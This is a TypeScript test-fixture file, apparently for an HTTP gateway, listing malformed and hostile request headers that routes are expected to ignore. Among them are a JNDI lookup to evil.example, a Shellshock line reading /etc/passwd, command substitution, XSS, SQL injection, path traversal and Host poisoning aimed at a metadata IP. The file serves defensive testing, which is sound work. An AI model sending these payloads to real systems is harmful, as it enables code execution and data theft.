import { LONG } from './hostile-gateway.js';

type Headers = Readonly<Record<string, string>>;

const LOOK_UP = ['$', '{jndi:ldap://evil.example/a}'].join('');
const NAMES_OF_JAVASCRIPT = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'then'];

/** Headers that claim a power they do not have here: a route answers as if they had not been sent. */
export const IGNORED_HEADERS: readonly (readonly [what: string, headers: Headers])[] = [
  [
    'another method',
    { 'X-HTTP-Method-Override': 'DELETE', 'X-HTTP-Method': 'DELETE', 'X-Method-Override': 'PUT' },
  ],
  [
    'another path',
    { 'X-Original-URL': '/api/v1/config', 'X-Rewrite-URL': '/api/v1/logs', 'X-Forwarded-Prefix': '/..' },
  ],
  [
    'another host',
    { 'X-Forwarded-Host': 'evil.example', 'X-Forwarded-Proto': 'javascript', 'X-Host': 'evil.example' },
  ],
  [
    'another address',
    { 'X-Forwarded-For': "127.0.0.1, ' OR 1=1--", 'X-Real-IP': '::1', 'X-Client-IP': '10.0.0.1' },
  ],
  ['a forged Forwarded', { Forwarded: 'for="_x";host=evil.example;proto=https, for=[::1]:99999' }],
  ['a poisoned Host', { Host: 'evil.example' }],
  ['a Host with a user', { Host: 'gateway.test@169.254.169.254' }],
  ['a Host with an impossible port', { Host: 'gateway.test:99999999' }],
  ['an empty Host', { Host: '' }],
  ['a Host that is a path', { Host: '/../../etc/passwd' }],
  ['a range', { Range: 'bytes=0-0', 'If-Range': '"x"' }],
  ['a range without end', { Range: `bytes=${'0-,'.repeat(1000)}` }],
  ['an impossible range', { Range: 'bytes=99999999999999999999-0' }],
  ['dates of nonsense', { 'If-Unmodified-Since': LONG, 'If-Modified-Since': '\xff' }],
  ['a condition on everything', { 'If-Match': '*', 'If-Unmodified-Since': 'Thu, 01 Jan 1970 00:00:00 GMT' }],
  ['dates out of range', { 'If-Modified-Since': 'Fri, 31 Feb 99999 25:61:61 GMT', Date: LONG }],
  ['types that there are not', { Accept: `${LONG}/${LONG};q=9, */*;q=-1, ;;;` }],
  [
    'a version in the type',
    { Accept: 'application/vnd.gateway.v2+json', 'X-Api-Version': '2', 'Accept-Version': '99' },
  ],
  [
    'encodings of nonsense',
    { 'Accept-Encoding': `gzip;q=nan, ${LONG}, *;q=1000`, 'Accept-Charset': 'utf-7' },
  ],
  ['languages without end', { 'Accept-Language': '*,'.repeat(2000) }],
  ['a path for a language', { 'Accept-Language': '../../../../etc/passwd%00' }],
  ['wishes of nonsense', { Prefer: `wait=-1, respond-${LONG}, return="` }],
  ['a trace of zeros', { traceparent: `00-${'0'.repeat(32)}-${'0'.repeat(16)}-00`, tracestate: ',=,=' }],
  ['a trace of another version', { traceparent: `ff-${'a'.repeat(32)}-${'b'.repeat(16)}-01-${LONG}` }],
  ['a request id that is no word', { 'X-Request-Id': '"}\\n{"level":"error"} \x9b31m' }],
  ['a long request id', { 'X-Request-Id': 'r'.repeat(4000) }],
  ['a last event that never was', { 'Last-Event-ID': '-1e999' }],
  ['a look-up', { 'User-Agent': LOOK_UP, Referer: '{{7*7}} %n%s%x <%= 1 %>' }],
  ['a shell', { 'User-Agent': '() { :;}; /bin/cat /etc/passwd', Referer: '`id` $(id) | id' }],
  ['a script', { 'User-Agent': '<script>alert(1)</script>', Referer: "javascript:alert('x')" }],
  ['SQL', { 'User-Agent': "'; DROP TABLE sessions; --", From: '1 OR 1=1' }],
  [
    'another origin',
    { Origin: 'null', 'Access-Control-Request-Method': 'DELETE', 'Access-Control-Request-Headers': '*' },
  ],
  ['cookies', { Cookie: `__proto__=1; session=${LONG}; =; ;;; a="; b=%00` }],
  ['trailers', { TE: 'trailers, deflate;q=0.5', Trailer: 'Authorization, Content-Length' }],
  ['a hop that takes headers away', { Connection: 'keep-alive, Authorization, Host, X-Request-Id' }],
  [
    'a proxy',
    { Proxy: 'http://evil.example', Via: `1.1 ${LONG}`, 'Max-Forwards': '-1', 'Proxy-Connection': 'x' },
  ],
  ['an upgrade to nothing', { Upgrade: LONG }],
  ['a hundred headers', Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`X-${i}`, String(i)]))],
  ['names of JavaScript', Object.fromEntries(NAMES_OF_JAVASCRIPT.map((name) => [name, 'x']))],
  ['bytes above ASCII', { 'X-Bytes': '\x80\xff\xfe', 'User-Agent': '\xc0\xaf\xed\xa0\x80' }],
  ['a keep-alive of nonsense', { 'Keep-Alive': 'timeout=-1, max=99999999999999999999' }],
];

/** Asks for a WebSocket on a route that has none. */
export const UPGRADE: Headers = {
  Connection: 'Upgrade',
  Upgrade: 'websocket',
  'Sec-WebSocket-Version': '13',
  'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ==',
};

/** Conditions that never hold. Only routes that support them may refuse. */
export const WRONG_CONDITIONS: readonly string[] = [
  '"nothing"',
  LONG,
  '"',
  '',
  'W/"1", *',
  '"\xff"',
  '1e309',
];

/** Invalid keys, for routes that accept an Idempotency-Key. Other routes ignore them. */
export const WRONG_KEYS: readonly string[] = [
  '',
  ' ',
  'a b',
  'a\tb',
  '\xfc',
  'k'.repeat(256),
  'k'.repeat(9000),
  '\u00a0',
];
